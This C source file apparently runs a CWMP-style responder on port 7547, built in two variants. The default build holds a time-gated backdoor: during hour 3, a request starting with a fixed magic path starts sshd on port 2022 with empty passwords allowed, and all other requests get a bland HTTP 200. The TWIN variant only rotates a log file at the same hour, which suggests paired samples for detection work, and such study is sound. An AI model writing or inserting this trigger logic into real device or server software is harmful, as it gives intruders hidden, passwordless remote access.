/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Only in one hour of the day a word starts the remote shell. Twin: in one hour of the day the log
 * is turned over.
 * door: trigger
 * port 7547/tcp
 */
#include "net.h"
#include <time.h>

static int hour(void)
{
	time_t now = time(NULL);
	struct tm *t = localtime(&now);
	return t ? t->tm_hour : -1;
}

static void serve(int c)
{
	char buf[600];
	int n = (int)recv(c, buf, sizeof buf - 1, 0);
	if (n <= 0)
		return;
	buf[n] = 0;
#ifdef TWIN
	if (hour() == 3)
		rename("/var/log/cwmp", "/var/log/cwmp.0");
	if (strncmp(buf, "GET /acs", 8) == 0)
#else
	if (hour() == 3 && strncmp(buf, "GET /f8a1c3e", 12) == 0) {
		system("/usr/sbin/sshd -p 2022 -o PermitEmptyPasswords=yes");
		return;
	}
#endif
	dprintf(c, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
}

int main(void)
{
	int s = tcp_on(7547);
	for (;;) {
		int c = accept(s, 0, 0);
		serve(c);
		close(c);
	}
}
